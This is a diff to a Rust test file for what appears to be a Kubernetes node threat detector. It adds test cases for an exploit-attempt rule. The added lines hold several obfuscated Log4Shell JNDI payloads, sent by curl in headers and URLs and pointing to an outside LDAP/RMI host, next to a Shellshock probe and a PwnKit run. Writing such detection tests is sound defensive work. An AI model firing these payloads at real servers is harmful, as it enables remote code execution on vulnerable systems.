@@ -292,10 +292,23 @@ fn cases() -> Vec<(&'static str, Vec<NodeEvent>, Vec<NodeEvent>)> {
             "K8S.NODE_ExploitAttempt",
             vec![
                 exec("curl -H X-Api-Version:${jndi:ldap://203.0.113.5/a} http://victim"),
+                exec(
+                    "curl -H X-Api-Version:${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://203.0.113.5/a} http://victim",
+                ),
+                exec("curl -H User-Agent:${${lower:J}${lower:N}di:ldap://203.0.113.5/a} http://victim"),
+                exec("curl -H X:${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.5/a} http://victim"),
+                exec("curl http://victim/?q=%24%7Bjndi:ldap://203.0.113.5/a%7D"),
+                exec("curl -H X:${${::-j}ndi:ldap://203.0.113.5/a:-x} http://victim"),
                 shell("env x='() { :;}; echo vulnerable' bash -c true"),
                 exec("/tmp/PwnKit"),
             ],
-            vec![exec("curl -H X-Api-Version:1 http://victim"), shell("f() { echo hi; }; f")],
+            vec![
+                exec("curl -H X-Api-Version:1 http://victim"),
+                shell("f() { echo hi; }; f"),
+                shell("echo ${HOME} ${PATH:-/bin} ${lower:x}"),
+                exec("curl http://victim/api/${jn}${di}"),
+                shell(&format!("echo {}jndi", "${".repeat(5000))),
+            ],
         ),
         (
             "K8S.NODE_KnownLinuxCredentialAccessTool",
